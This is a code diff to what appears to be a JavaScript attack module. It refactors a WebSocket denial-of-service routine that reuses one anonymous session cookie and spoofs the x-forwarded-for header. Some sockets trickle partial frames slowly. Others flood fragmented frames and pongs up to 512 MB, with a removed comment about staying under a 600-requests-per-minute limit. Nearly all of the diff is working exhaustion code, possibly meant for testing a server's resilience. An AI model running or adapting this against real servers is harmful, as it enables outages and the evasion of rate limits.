@@ -26,12 +26,13 @@ export const attack = {
     let opened = 0;
     let ended = 0;
     let sent = 0;
+    // One visitor may have many sockets.
+    const session = await request('/api/session/anonymous', { method: 'POST', headers: { origin } });
+    const cookie = session.headers
+      .getSetCookie()
+      .map((text) => text.split(';')[0])
+      .join('; ');
     async function fill(number) {
-      const session = await request('/api/session/anonymous', { method: 'POST', headers: { origin } });
-      const cookie = session.headers
-        .getSetCookie()
-        .map((text) => text.split(';')[0])
-        .join('; ');
       const socket = new WebSocket(`${base.replace('http', 'ws')}/ws`, {
         headers: { cookie, origin, 'x-forwarded-for': address },
       });
@@ -47,10 +48,11 @@ export const attack = {
       socket.once('close', () => ended++);
       const connection = socket._socket;
       const trickles = number % 4 === 0;
+      let isFirst = true;
       if (trickles) connection.write(frame(0x81, 16_000).subarray(0, 20));
       while (!signal.aborted && connection.writable && sent < 512 * 1024 * 1024) {
-        const bytes = trickles ? Buffer.from('x') : Buffer.concat([frame(number ? 0x01 : 0x00, 1), pongs]);
-        number = 0;
+        const bytes = trickles ? Buffer.from('x') : Buffer.concat([frame(isFirst ? 0x01 : 0x00, 1), pongs]);
+        isFirst = false;
         sent += bytes.length;
         if (!connection.write(bytes))
           await Promise.race([once(connection, 'drain'), once(connection, 'close')]).catch(() => {});
@@ -58,7 +60,6 @@ export const attack = {
       }
       socket.terminate();
     }
-    // A session takes one request of the 600 a minute, a socket another.
     const all = Array.from({ length: socketCount }, (_, at) => fill(at + 1));
     await Promise.all(all);
     return `${opened} sockets sent ${Math.round(sent / 1e6)} MB; the program ended ${ended}`;
